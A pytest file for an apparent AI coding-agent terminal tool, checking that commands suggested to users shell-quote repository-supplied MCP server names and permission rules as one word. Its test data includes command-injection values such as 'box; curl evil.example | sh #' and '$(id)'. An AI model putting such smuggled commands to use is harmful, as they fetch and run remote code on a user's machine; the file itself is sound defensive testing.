"""T245: a command that is suggested to a person runs nothing else, whatever names a repository contains."""

import shlex
from pathlib import Path

import pytest

from dragoman.names import shell_quoted
from tests.e2e.forked import run
from tests.torture import projects
from tests.unit.tui.desk import Desk, desk

__all__ = ["desk"]
pytestmark = pytest.mark.requirement("CAT-2")
NAME = "box; curl evil.example | sh #"
RULE = "Bash(x'; curl evil.example | sh; ')"


@pytest.mark.parametrize("name", [NAME, "a'; id; '", "$(id)", "`id`", "-rf"])
def test_t245_a_typed_name_is_quoted_as_one_word(name: str):
    assert shlex.split(shell_quoted(name))[-1] == name
    assert len(shlex.split(shell_quoted(name))) == 1 + name.startswith("-")


async def test_t245_an_unapproved_entry_is_quoted_as_one_word(
    desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch
):
    projects.write(home / "work/.mcp.json", projects.servers(**{NAME: {"command": "true"}}))
    monkeypatch.chdir(home / "work")
    async with desk.opened(is_configured=True, size=(140, 40)) as seat:
        await seat.until(lambda: "dragoman mcp approve" in seat.text)
        assert f"dragoman mcp approve '{NAME}'" in seat.text


async def test_t245_a_rule_of_a_file_is_quoted_as_one_word(
    desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch
):
    projects.write(home / "work/.dragoman/settings.local.json", {"permissions": {"deny": [RULE]}})
    monkeypatch.chdir(home / "work")
    async with desk.opened(is_configured=True, mode="default", size=(140, 40)) as seat:
        await seat.send("/permissions")
        await seat.until(lambda: len(seat.app.screen_stack) == 2)
        await seat.pilot.press("end", "d")
        await seat.until(lambda: "This rule is in a file" in seat.shown(".problem"))
        assert seat.shown(".problem").endswith(f"dragoman permissions remove {shlex.quote(RULE)}")


def test_t245_the_server_of_a_sign_in_is_quoted_as_one_word(home: Path):
    entry = {"type": "http", "url": "https://example.com/mcp"}
    projects.user(home, {"mcpServers": {NAME: entry}})
    shown = run("mcp", "whoami", NAME)
    assert f"`dragoman mcp login '{NAME}'`" in " ".join((shown.stdout + shown.stderr).split())
